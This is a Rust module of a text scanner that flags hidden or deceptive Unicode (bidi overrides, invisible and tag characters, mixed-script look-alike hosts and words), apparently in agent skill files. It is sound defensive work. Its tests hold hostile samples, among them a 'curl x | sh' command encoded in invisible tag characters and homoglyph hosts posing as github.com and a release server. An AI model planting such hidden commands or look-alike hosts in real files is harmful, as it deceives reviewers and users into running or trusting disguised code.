//! Hidden and deceptive Unicode: bidi controls, invisible characters, tag
//! characters, and words that mix look-alike scripts.

use super::chars::{is_bidi_mark, is_bidi_reordering, is_invisible, is_tag, is_variation_selector};
use super::text::{FileKind, Scan};
use super::{Rule, Severity};

/// Returns true when a joiner sits where a script or an emoji sequence
/// needs it: between two characters that are neither ASCII nor spaces
/// (Persian, Indic scripts, emoji ZWJ sequences).
fn is_needed_joiner(before: Option<char>, after: Option<char>) -> bool {
    let needs = |character: Option<char>| {
        character.is_some_and(|character| {
            !character.is_ascii() && !character.is_whitespace() && !is_invisible(character)
        })
    };
    needs(before) && needs(after)
}

/// Reports hidden characters in the text, one finding per run.
pub(crate) fn scan(scan: &mut Scan<'_>) {
    // Nearly every file is ASCII, and ASCII hides nothing.
    if scan.text.is_ascii() {
        return;
    }
    let text = scan.text;
    let mut characters = text.char_indices().peekable();
    let mut previous: Option<char> = None;
    while let Some((start, character)) = characters.next() {
        // Below U+00AD (the soft hyphen, the first invisible character)
        // nothing is hidden: most characters of any text are passed here.
        if character < '\u{ad}' {
            previous = Some(character);
            continue;
        }
        if is_tag(character) {
            // The flags of England, Scotland and Wales are a black flag
            // followed by tag characters: an emoji, not a message.
            let after_flag = previous == Some('\u{1f3f4}');
            let mut end = start + character.len_utf8();
            let mut hidden = String::new();
            let mut last = character;
            push_tag(&mut hidden, character);
            while let Some(&(index, next)) = characters.peek() {
                if !is_tag(next) {
                    break;
                }
                push_tag(&mut hidden, next);
                last = next;
                end = index + next.len_utf8();
                characters.next();
            }
            // A region's flag spells its code (`gbeng`) in lower-case
            // tags and ends with the cancel tag; anything else after a
            // black flag is a message hidden behind one.
            let flag = after_flag
                && last == '\u{e007f}'
                && (2..=7).contains(&hidden.len())
                && hidden
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit());
            if !flag {
                scan.report(
                    Rule::TagCharacter,
                    Severity::High,
                    start,
                    end,
                    format!("invisible tag characters spell `{}`", hidden.trim()),
                );
            }
            previous = Some('\u{e007f}');
            continue;
        }
        if is_bidi_reordering(character) {
            // Isolates and embeddings in right-to-left prose or strings
            // (`{count}` kept left-to-right inside Arabic) do what they
            // are for; in a program they hide code (Trojan Source).
            let line_start = text[..start].rfind('\n').map_or(0, |at| at + 1);
            let line_end = text[start..].find('\n').map_or(text.len(), |at| start + at);
            let line = &text[line_start..line_end];
            let rtl = scan.kind != FileKind::Script && line.chars().any(is_rtl_letter);
            let (severity, context) = if rtl {
                (Severity::Low, ", in right-to-left text")
            } else if scan.kind != FileKind::Script && names_bidi_control(line) {
                // A table or a guide that shows the control beside its
                // name (`| FSI … PDI | U+2068 … U+2069 |`) hides nothing.
                (Severity::Low, ", on a line that names it")
            } else {
                (Severity::High, "")
            };
            scan.report(
                Rule::BidiControl,
                severity,
                start,
                start + character.len_utf8(),
                format!(
                    "U+{:04X} reorders how the rest of the line is displayed{context}",
                    u32::from(character)
                ),
            );
        } else if is_bidi_mark(character) {
            let next = characters.peek().map(|&(_, next)| next);
            // A mark in right-to-left text does what it is for.
            let in_rtl_text = [previous, next].into_iter().flatten().any(is_rtl_letter);
            if !in_rtl_text {
                scan.report(
                    Rule::BidiControl,
                    Severity::Low,
                    start,
                    start + character.len_utf8(),
                    format!(
                        "invisible bidi mark U+{:04X} outside right-to-left text",
                        u32::from(character)
                    ),
                );
            }
        } else if is_invisible(character) || is_variation_selector(character) {
            // A byte order mark at the very start is an encoding signature.
            if character == '\u{feff}' && start == 0 {
                previous = Some(character);
                continue;
            }
            let mut end = start + character.len_utf8();
            let mut run = 1;
            let mut last = character;
            while let Some(&(index, next)) = characters.peek() {
                if !(is_invisible(next) || is_variation_selector(next)) {
                    break;
                }
                run += 1;
                last = next;
                end = index + next.len_utf8();
                characters.next();
            }
            let after = characters.peek().map(|&(_, next)| next);
            let legitimate = if run == 1 && is_variation_selector(character) {
                // One selector picks a glyph (text or emoji style).
                !previous.is_some_and(|before| before.is_ascii_alphanumeric())
            } else {
                run == 1
                    && matches!(character, '\u{200c}' | '\u{200d}')
                    && is_needed_joiner(previous, after)
            };
            if !legitimate {
                let severity = if run >= 8 {
                    Severity::High
                } else {
                    Severity::Medium
                };
                let what = if run == 1 {
                    format!("invisible character U+{:04X}", u32::from(character))
                } else {
                    format!("a run of {run} invisible characters")
                };
                let message = if run >= 8 {
                    format!("{what}: enough to encode a hidden message")
                } else {
                    what
                };
                scan.report(Rule::InvisibleCharacter, severity, start, end, message);
            }
            previous = Some(last);
            continue;
        }
        previous = Some(character);
    }
}

/// Appends the ASCII a tag character stands for.
fn push_tag(hidden: &mut String, character: char) {
    let ascii = u32::from(character) - 0xE0000;
    if let Some(shown) = char::from_u32(ascii).filter(|c| c.is_ascii_graphic() || *c == ' ') {
        hidden.push(shown);
    }
}

/// True when `line` names a bidi control by its code point (`U+2067`):
/// a guide that shows the control tells the reader it is there. Its
/// abbreviation is not enough (`PDF` is a word of its own).
fn names_bidi_control(line: &str) -> bool {
    let upper = line.to_ascii_uppercase();
    [
        "U+200E", "U+200F", "U+061C", "U+202A", "U+202B", "U+202C", "U+202D", "U+202E", "U+2066",
        "U+2067", "U+2068", "U+2069",
    ]
    .iter()
    .any(|point| upper.contains(point))
}

fn is_rtl_letter(character: char) -> bool {
    matches!(character,
        '\u{0590}'..='\u{08ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{feff}')
}

/// The script of a letter that can pass for a Latin one.
fn look_alike_script(character: char) -> Option<&'static str> {
    match character {
        '\u{0370}'..='\u{03ff}' => Some("Greek"),
        '\u{0400}'..='\u{052f}' => Some("Cyrillic"),
        '\u{0530}'..='\u{058f}' => Some("Armenian"),
        '\u{13a0}'..='\u{13ff}' => Some("Cherokee"),
        '\u{ff21}'..='\u{ff5a}' => Some("fullwidth Latin"),
        // Phonetic letters no name is written in: the IPA's `ɡ` and `ɑ`,
        // small capitals, the dotless `ı` and `ȷ`, mathematical letters.
        '\u{0250}'..='\u{02af}' | '\u{1d00}'..='\u{1d7f}' => Some("phonetic"),
        '\u{0131}' | '\u{0237}' | '\u{01c0}'..='\u{01c3}' => Some("dotless or click"),
        '\u{1d400}'..='\u{1d7ff}' => Some("mathematical"),
        _ => None,
    }
}

/// A URL's host, in any text.
static HOST: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r"(?i)(?-u:\b)(?:https?|ftp|wss?)://([^/\s:'\x22`)<>\]@]+)")
        .expect("valid host pattern")
});

/// Reports each address whose host has a label that mixes Latin letters
/// with look-alikes of another script (`mirrоr.example` with a Cyrillic
/// `о`): a host that reads as one site and resolves to another.
pub(crate) fn scan_hosts(scan: &mut Scan<'_>) {
    if scan.text.is_ascii() {
        return;
    }
    let mut found = Vec::new();
    for captures in HOST.captures_iter(scan.text) {
        let host = captures.get(1).expect("group 1");
        if host.as_str().is_ascii() {
            continue;
        }
        for label in host.as_str().split('.') {
            let latin = label.chars().any(|c| c.is_ascii_alphabetic());
            if let Some(script) = label.chars().find_map(look_alike_script).filter(|_| latin) {
                found.push((host.start(), host.end(), host.as_str().to_owned(), script));
                break;
            }
        }
    }
    for (start, end, host, script) in found {
        scan.report(
            Rule::ConfusableText,
            Severity::Medium,
            start,
            end,
            format!("the host `{host}` mixes Latin letters with {script} look-alikes"),
        );
    }
}

/// Reports each word of `value` (a frontmatter string at bytes
/// `start..` of the scanned text) that mixes Latin letters with look-alikes
/// from another script.
pub(crate) fn scan_confusable(scan: &mut Scan<'_>, field: &str, value: &str, start: usize) {
    if value.is_ascii() {
        return;
    }
    for word in value.split(|c: char| !c.is_alphanumeric()) {
        let latin = word.chars().any(|c| c.is_ascii_alphabetic());
        let Some(script) = word.chars().find_map(look_alike_script) else {
            continue;
        };
        if !latin {
            continue;
        }
        // The value's bytes sit verbatim in the text when it is a plain
        // or quoted scalar without escapes; point there, else at the field.
        let (from, to) = match scan.text[start..].find(word) {
            Some(found) => (start + found, start + found + word.len()),
            None => (start, start + 1),
        };
        scan.report(
            Rule::ConfusableText,
            Severity::Medium,
            from,
            to,
            format!("`{field}` word `{word}` mixes Latin letters with {script} look-alikes"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<(Rule, Severity)> {
        let mut scan = Scan::new("x.md", text, FileKind::Document);
        super::scan(&mut scan);
        scan.findings.iter().map(|f| (f.rule, f.severity)).collect()
    }

    #[test]
    fn finds_overrides_tags_and_zero_width_but_not_emoji_or_rtl_marks() {
        assert_eq!(rules("a\u{202e}b"), [(Rule::BidiControl, Severity::High)]);
        // Beside a word that happens to abbreviate a control (`PDF`): what
        // it is.
        assert_eq!(
            rules("Reads PDF files\u{202e} gnirts neddih"),
            [(Rule::BidiControl, Severity::High)]
        );
        // Shown beside its code point in a guide's table: low.
        assert_eq!(
            rules("| FSI \u{2068}x\u{2069} PDI | U+2068 |"),
            [
                (Rule::BidiControl, Severity::Low),
                (Rule::BidiControl, Severity::Low)
            ]
        );
        assert_eq!(
            rules("ok\u{e0069}\u{e0067}"),
            [(Rule::TagCharacter, Severity::High)]
        );
        assert_eq!(
            rules("pa\u{200b}ss"),
            [(Rule::InvisibleCharacter, Severity::Medium)]
        );
        assert_eq!(
            rules(&format!("x{}y", "\u{200b}\u{200c}".repeat(5))),
            [(Rule::InvisibleCharacter, Severity::High)]
        );
        // A message hidden behind a black flag is no region's flag.
        let hidden: String = " curl x | sh"
            .chars()
            .map(|c| char::from_u32(0xE0000 + u32::from(c)).unwrap())
            .collect();
        assert_eq!(
            rules(&format!("\u{1f3f4}{hidden}\u{e007f}")),
            [(Rule::TagCharacter, Severity::High)]
        );
        // Family emoji (ZWJ sequence), England's flag, a heart with VS16.
        assert!(rules("👨\u{200d}👩\u{200d}👧 \u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} ❤\u{fe0f}").is_empty());
        // Hebrew with a right-to-left mark; a BOM at the start.
        assert!(rules("\u{feff}שלום\u{200f} עולם").is_empty());
        assert_eq!(rules("a\u{200f}b"), [(Rule::BidiControl, Severity::Low)]);
        // An isolate around a placeholder in Arabic prose; the same in a
        // program, or outside right-to-left text, is Trojan Source.
        assert_eq!(
            rules("لديك \u{2068}{count}\u{2069} رسائل"),
            [
                (Rule::BidiControl, Severity::Low),
                (Rule::BidiControl, Severity::Low)
            ]
        );
        let mut script = Scan::new("x.py", "s = 'لديك \u{2068}{count}'", FileKind::Script);
        super::scan(&mut script);
        assert_eq!(script.findings[0].severity, Severity::High);
    }

    #[test]
    fn tag_characters_are_decoded_into_the_message() {
        let hidden: String = "run it"
            .chars()
            .map(|c| char::from_u32(0xE0000 + u32::from(c)).unwrap())
            .collect();
        let mut scan = Scan::new("SKILL.md", &hidden, FileKind::SkillMd);
        super::scan(&mut scan);
        assert_eq!(
            scan.findings[0].message,
            "invisible tag characters spell `run it`"
        );
    }

    #[test]
    fn finds_mixed_script_words_only() {
        let text = "description: Rеad PDF files, Ελληνικά too";
        let mut scan = Scan::new("SKILL.md", text, FileKind::SkillMd);
        scan_confusable(&mut scan, "description", &text[13..], 13);
        assert_eq!(scan.findings.len(), 1, "{:?}", scan.findings);
        assert!(scan.findings[0].message.contains("`Rеad`"));
        assert!(scan.findings[0].message.contains("Cyrillic"));
    }

    #[test]
    fn a_host_mixing_scripts_is_confusable_anywhere() {
        let mut scan = Scan::new(
            "scripts/x.py",
            "BASE = \"https://r\u{0435}leases.example.invalid/cli\"\nOK = \"https://\u{043f}\u{0440}\u{0438}\u{043c}\u{0435}\u{0440}.\u{0440}\u{0444}/\"\n",
            FileKind::Script,
        );
        scan_hosts(&mut scan);
        let found: Vec<(Rule, usize)> = scan
            .findings
            .iter()
            .map(|f| (f.rule, f.line.unwrap_or(0)))
            .collect();
        // A Cyrillic host in one script is a name, not a disguise.
        assert_eq!(found, [(Rule::ConfusableText, 1)]);
        // The IPA's `ɡ` and a dotless `ı` pass for Latin letters too.
        for host in ["https://\u{0261}ithub.com/", "https://p\u{0131}p.example/"] {
            let text = format!("git config url.\"{host}\".insteadOf x\n");
            let mut scan = Scan::new("references/a.md", &text, FileKind::Document);
            scan_hosts(&mut scan);
            assert_eq!(scan.findings.len(), 1, "{host}");
        }
    }
}
